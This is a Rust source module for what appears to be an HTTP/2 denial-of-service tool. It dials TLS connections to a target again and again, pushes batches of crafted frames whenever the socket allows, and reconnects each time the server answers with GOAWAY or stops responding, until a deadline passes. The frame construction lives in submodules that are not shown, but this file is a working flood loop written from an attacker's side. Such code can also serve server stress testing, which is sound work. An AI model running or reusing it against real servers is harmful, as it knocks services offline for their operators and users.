//! Floods of an HTTP/2 server: frames of our own making on one connection, and the next one when it is thrown out.

pub mod frames;
mod kinds;

pub use kinds::Kind;

use super::wire::{Dialer, Wire};
use super::{Options, Report, SILENCE};
use crate::machine::Failure;
use kinds::Flood;
use spooky::tls::Alpn;
use std::time::{Duration, Instant};

/// While the server takes nothing, the attacker waits so long for it.
const NO_ROOM: Duration = Duration::from_millis(10);
/// One turn reads no more than this.
const READ_BYTES: usize = 256 << 10;

/// Floods until then.
pub fn run(kind: Kind, options: &Options, until: Instant, report: &mut Report) -> Result<(), Failure> {
    let dialer = Dialer::new(options.to, &options.name, Alpn::H2)?;
    report.open_most = 1;
    while Instant::now() < until {
        match dialer.connect_secure() {
            Ok(wire) => {
                report.connections += 1;
                flood(Flood::new(kind, &options.name, &options.path), wire, until, report);
            }
            Err(error) => report.handshake_failed(error),
        }
    }
    Ok(())
}

/// One connection, to its end.
fn flood(mut flood: Flood, mut wire: Wire, until: Instant, report: &mut Report) {
    wire.send(flood.begin());
    let mut code = None;
    let end = loop {
        if wire.flush() {
            wire.send(flood.batch());
        } else if wire.end.is_none() {
            wire.wait(NO_ROOM);
        }
        wire.receive(READ_BYTES);
        code = frames::read(&mut wire.came).or(code);
        match (code, wire.end) {
            // Whatever else is sent is for nothing.
            (Some(code), _) => break format!("GOAWAY {code:#x}"),
            (None, Some(end)) => break end.to_owned(),
            _ if Instant::now() > until => break "still open".to_owned(),
            _ if wire.moved.elapsed() > SILENCE => break "silent".to_owned(),
            _ => {}
        }
    };
    report.ended(end);
    report.frames += flood.frames;
    report.bytes += wire.bytes;
}
